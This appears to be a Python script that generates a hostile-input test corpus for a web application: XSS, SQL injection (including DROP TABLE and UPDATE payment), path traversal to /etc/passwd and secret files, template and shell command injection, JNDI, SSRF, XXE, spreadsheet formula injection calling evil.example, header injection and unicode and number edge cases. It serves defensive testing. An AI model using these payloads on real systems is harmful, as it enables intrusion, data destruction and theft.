"""Writes the payload corpus of T9, original and our own: ``python -m tests.hostile.making_payloads``.

Each family is one file of data/, a list of texts; a text of many times the same is written as
``{"before", "part", "times", "after"}``. A test compares the files with what is made here.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path
from typing import Any

from .making_bodies import bodies

DATA = Path(__file__).parent / "data"
SHARES = {
    "xss": 220,
    "sql": 150,
    "traversal": 120,
    "template": 60,
    "header": 60,
    "unicode": 150,
    "number": 140,
    "bodies": 109,
}


BREAKOUTS = (
    "", '">', "'>", '"', "'", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>",
    "</noscript>", "</template>", '\\">', "&quot;>", "%22%3E", "\\u0022\\u003e", "\x00\">", "\">\n\n", "*/ ", "`>",
)  # fmt: skip
MARKUP = (
    "<lumbung-trap>N</lumbung-trap>", "<script>lumbungTrap('N')</script>", "<img src=x onerror=lumbungTrap('N')>",
    "<svg/onload=lumbungTrap('N')>", " autofocus onfocus=lumbungTrap('N') lumbung-trap=N x=\"",
    "<iframe srcdoc=\"<script>parent.lumbungTrap('N')</script>\"></iframe>", "<details open ontoggle=lumbungTrap('N')>",
    "<a href=\"javascript:lumbungTrap('N')\">N</a>", "<style>@import'//evil.example/N';</style><base href=//evil.example/>",
)  # fmt: skip
ODD_MARKUP = (
    "javascript:lumbungTrap('N')", "JaVaScRiPt:lumbungTrap('N')", "java\tscript:lumbungTrap('N')", "data:text/html,<script>lumbungTrap('N')</script>",
    "vbscript:lumbungTrap('N')", "</script><script type=module>lumbungTrap('N')</script>", "\"};lumbungTrap('N');//", "';lumbungTrap('N');//",
    "\\u003cscript\\u003elumbungTrap('N')\\u003c/script\\u003e", "&lt;script&gt;lumbungTrap('N')&lt;/script&gt;", "&#60;lumbung-trap&#62;",
    "%3Clumbung-trap%3E", "<\x00script>lumbungTrap('N')</script>", "<scr<script>ipt>lumbungTrap('N')</scr</script>ipt>",
    "+ADw-lumbung-trap+AD4-", "<svg><script>lumbungTrap('N')</script></svg>", "<math><mtext><lumbung-trap>", "<!--><lumbung-trap>-->",
    "<meta http-equiv=refresh content=\"0;url=javascript:lumbungTrap('N')\">", "<link rel=stylesheet href=//evil.example/N>",
    "<object data=\"javascript:lumbungTrap('N')\">", "＜lumbung-trap＞<lumbung-trap\x0b>",
)  # fmt: skip

QUOTES = ("", "'", '"', "')", "'))", "1", "-1'", "\\'", "%' ", "');")
STATEMENTS = (
    " OR 1=1 --", " OR 'a'='a", " AND 1=2 UNION SELECT NULL,NULL,NULL --", " UNION SELECT username,password_hash FROM person --",
    "; DROP TABLE person; --", "; DELETE FROM ledger_line; --", "; UPDATE payment SET state='succeeded'; --", " AND randomblob(900000000) --",
    " AND pg_sleep(9) --", " || (SELECT pg_sleep(9)) || ", "; ATTACH DATABASE 'x' AS y; --", "/**/OR/**/1/**/=/**/1#",
    " ORDER BY 99 --", "; COPY person TO PROGRAM 'id'; --", " LIKE '%_%' ESCAPE '",
)  # fmt: skip

STEPS = ("../", "..\\", "%2e%2e%2f", "..%252f", "..%c0%af", "....//", "/", "file:///", "\\\\evil.example\\", "..;/")
TARGETS = (
    "etc/passwd", "var/lumbung.db", "uploads/original/aa", ".env", "var/secrets/secret_key", "wsgi.py", "proc/self/environ", "windows/win.ini",
    "CON", "foto.jpg%00.php",
)  # fmt: skip
ELSEWHERE = (
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "https:evil.example",
    "https://evil.example", "http:\\\\evil.example", "//evil.example\\@localhost", "//localhost@evil.example", "/%2f%2fevil.example", "/%5cevil.example",
    "javascript://evil.example/%0alumbungTrap(1)", "//\u2024evil.example", "／／evil.example", "/..//evil.example", "http://[::1", "http://evil.example:99999/", "/\x0b/evil.example",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{self.__init__.__globals__}}", "{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}", "{% raw %}", "{#", "{{", "}}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "{{constructor.constructor('lumbungTrap(1)')()}}", "[[${7*7}]]", "%(nama)s", "%s%n%x%p", "{0.__class__}",
    "{nama!r:>99999999}", "$(id)", "`id`", "; id", "| id", "&& id", "|| id", "\n id", "$IFS$9id", "a;sleep${IFS}9", "%COMSPEC%", "!!python/object/apply:os.system [id]",
    "__import__('os').system('id')", "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==", "gASVAAAAAAAAAC4=", "${jndi:ldap://evil.example/a}", "http://169.254.169.254/latest/meta-data/",
    "http://localhost:8000/kantor", "gopher://127.0.0.1:5432/_", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "<?php system('id'); ?>",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=HYPERLINK(\"http://evil.example\",\"klik\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "＝1+1", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "a,\"b\"\r\nc", "%0A=1+1", "DDE(\"cmd\")", "--output=/tmp/x", "-rf /",
)  # fmt: skip

LINE_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u560d\u560a", "\u2028", "\x85", "\x00\r\n", "\x0b")
HEADERS = (
    "Set-Cookie: sesi=lumbung-trap", "Location: //evil.example", "Content-Type: text/html", "Bcc: korban@evil.example", "\r\n<lumbung-trap>", "X-Accel-Redirect: /var/lumbung.db",
)  # fmt: skip

SIGNS = (
    "\x00", "\x07", "\x08", "\x0b", "\x1b[31m", "\x1f", "\x7f", "\x80", "\x85", "\xa0", "\xad", "\u034f", "\u061c", "\u115f", "\u1160", "\u17b4",
    "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202d", "\u202e", "\u2066", "\u2069", "\u206a",
    "\u2800", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\uffa0", "\ufff9", "\ufffd", "\ufffe", "\uffff", "\ud800", "\udfff\ud800", "\U000e0041", "\U000f0000", "\U0010ffff",
)  # fmt: skip
TOWERS = (
    ("a", "\u0301", 100_000, ""), ("a", "\u0301\u0316", 100_000, "z"), ("", "\u0f73", 60_000, ""), ("", "\ufdfa", 20_000, ""), ("", "\U0001f468\u200d", 5_000, "\U0001f468"),
    ("", "\u200d", 10_000, ""), ("", "\u202e", 10_000, "gnp.exe"), ("", "İ", 3_000, ""), ("", "ß", 3_000, ""), ("", "\U0001f1ee\U0001f1e9", 3_000, ""),
    ("", "x", 20_000, ""), ("", " ", 100_000, "a"), ("", "a ", 50_000, ""), ("", "\u1100\u1161\u11a8", 20_000, ""), ("", "\u0344", 50_000, ""),
)  # fmt: skip

NUMBERS = (
    "0", "-0", "+0", "00", "-1", "+1", "1", " 1 ", "1 ", "01", "0001", "1.", ".1", "0.1", "1.5", "1,5", "1.0", "1,00", "1.00", "1e1", "1E1", "1e-1", "1e309", "-1e309",
    "NaN", "nan", "-NaN", "Infinity", "-Infinity", "inf", "∞", "0x10", "0X10", "0b1", "0o7", "1_000", "1__0", "_1", "1'000", "1 000", "1\u00a0000", "1\u202f000", "1\u2009000",
    "45.000", "45,000", "4.50.00", "45.000,00", "45.000,-", "45.000.", ".000", "1.000.000.000.000.000", "10.000.000.000", "10.000.000.001", "Rp1", "Rp 1", "rp.1", "IDR 1", "Rp", "Rp-1",
    "$1", "1rb", "seribu", "1jt", "½", "²", "1²", "١٢٣", "१२३", "၁၂၃", "𝟏𝟐𝟑", "１２３", "①", "Ⅻ", "一百", "𞥐", "1\u0301", "1\u200b0", "\u202e1", "1\x000",
    "127", "128", "255", "256", "32767", "32768", "65535", "65536", "2147483646", "2147483647", "2147483648", "-2147483648", "-2147483649", "4294967295", "4294967296",
    "9007199254740991", "9007199254740992", "9007199254740993", "9223372036854775806", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809",
    "18446744073709551615", "18446744073709551616", "999999999999", "1000000000000", "9999999999999999", "1" + "0" * 30, "9" * 100, "9" * 309, "9" * 4_299, "9" * 4_300, "9" * 4_301,
    "1" * 5_000, "0" * 5_000 + "1", "-" * 50 + "1", "1e" + "9" * 30, "0." + "0" * 400 + "1", "1/0", "1/3", "1%", "100%", "101%", "-1%", "0,01%", "100,01",
    "2026-02-30", "31 Februari 2026", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-W01-1", "32/13/2026", "0/0/0", "1 1 1", "08" + "1" * 30,
    "seller:99999999999999999999", "9999-12-31.999999999999999999.999999999", "JU-2026-999999999",
)  # fmt: skip


def families() -> dict[str, list[Any]]:
    """Every family of the corpus, in the order and number of T9."""
    xss = [breakout + body for breakout, body in product(BREAKOUTS, MARKUP)] + list(ODD_MARKUP)
    made: dict[str, list[Any]] = {
        "xss": [text.replace("N", f"n{number}") for number, text in enumerate(xss)],
        "sql": [quote + statement for quote, statement in product(QUOTES, STATEMENTS)],
        "traversal": [step * (1 if step in STEPS[6:9] else 6) + target for step, target in product(STEPS, TARGETS)] + list(ELSEWHERE),
        "template": list(TEMPLATES),
        "header": [f"a{end}{header}" for end, header in product(LINE_ENDS, HEADERS)],
        "unicode": [text for sign in SIGNS for text in (sign, f"Keri{sign}pik", sign * 40)] + [_tower(*tower) for tower in TOWERS],
        "number": list(NUMBERS),
        "bodies": bodies(),
    }  # fmt: skip
    return made


def _tower(before: str, part: str, times: int, after: str) -> dict[str, Any]:
    return {"before": before, "part": part, "times": times, "after": after}


def written(family: list[Any]) -> str:
    """A family as its file holds it: one entry a line, plain ASCII."""
    return "[\n" + ",\n".join(json.dumps(entry) for entry in family) + "\n]\n"


if __name__ == "__main__":
    for name, family in families().items():
        (DATA / f"{name}.json").write_text(written(family))
